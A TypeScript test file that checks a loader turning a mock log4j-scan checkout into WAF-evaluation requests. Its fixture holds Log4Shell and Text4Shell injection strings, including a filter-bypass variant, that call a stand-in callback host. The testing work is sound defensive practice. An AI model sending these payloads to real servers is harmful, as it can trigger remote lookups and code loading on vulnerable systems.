/**
 * `waf/log4j-scan.ts`: how a checkout of log4j-scan (its `log4j-scan.py` lists, read with Python's
 * parser, and `headers.txt`) becomes requests for `npm run waf:eval -- --log4j-scan PATH`: a made-up
 * checkout with the same names.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { loadLog4jScan } from "../../waf/log4j-scan.ts";

const root = mkdtempSync(join(tmpdir(), "log4j-scan-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));
writeFileSync(
  join(root, "log4j-scan.py"),
  `import requests  # never run: only parsed
post_data_parameters = ["username", "email"]
waf_bypass_payloads = ["\${\${::-j}ndi:rmi://{{callback_host}}/{{random}}}",
                       "\${jndi:dns://{{callback_host}}}"]
cve_2021_45046 = ["\${jndi:ldap://127.0.0.1#{{callback_host}}/{{random}}}"]
cve_2022_42889 = ["\${dns:address|{{callback_host}}}"]
timeout = 4
def scan(url):
    payloads = ["not a module-level list"]
`,
);
writeFileSync(join(root, "headers.txt"), "# headers\nReferer\nX-Api-Version\nHost\nUser-Agent\n\n");

describe("loadLog4jScan", () => {
  const lines = loadLog4jScan(root);

  it("puts each payload of each list in each header (Host left out), a query, a form and JSON", () => {
    expect(new Set(lines.map((l) => l.class))).toEqual(
      new Set([
        "log4j-scan-default",
        "log4j-scan-waf-bypass",
        "log4j-scan-cve-2021-45046",
        "log4j-scan-cve-2022-42889",
      ]),
    );
    // 5 payloads × (3 headers + query + form + JSON).
    expect(lines).toHaveLength(5 * 6);
    const bypass = lines.filter((l) => l.class === "log4j-scan-waf-bypass");
    expect(bypass.find((l) => l.id.endsWith(":header:X-Api-Version"))?.headers).toEqual({
      accept: "*/*",
      "x-api-version": "${${::-j}ndi:rmi://c1a2b3.oast.example/k9x2m1}",
    });
    // Its Referer is the payload after `https://`.
    expect(bypass.find((l) => l.id.endsWith(":header:Referer"))?.headers?.referer).toBe(
      "https://${${::-j}ndi:rmi://c1a2b3.oast.example/k9x2m1}",
    );
    const q = lines.find((l) => l.class === "log4j-scan-cve-2022-42889" && l.id.endsWith(":query"))!;
    expect(decodeURIComponent(q.query!.slice(2))).toBe("${dns:address|c1a2b3.oast.example}");
    const json = lines.find((l) => l.class === "log4j-scan-cve-2021-45046" && l.id.endsWith(":json"))!;
    expect(JSON.parse(json.body!)).toEqual({
      username: "${jndi:ldap://127.0.0.1#c1a2b3.oast.example/k9x2m1}",
      email: "${jndi:ldap://127.0.0.1#c1a2b3.oast.example/k9x2m1}",
    });
    // Not the tool's own User-Agent, which is blocked whatever the payload.
    expect(lines.some((l) => l.headers?.["user-agent"]?.startsWith("log4j-scan"))).toBe(false);
  });

  it("says which list a script lacks", () => {
    writeFileSync(join(root, "log4j-scan.py"), "waf_bypass_payloads = []\n");
    expect(() => loadLog4jScan(root)).toThrow(/has no list named cve_2021_45046/);
  });
});
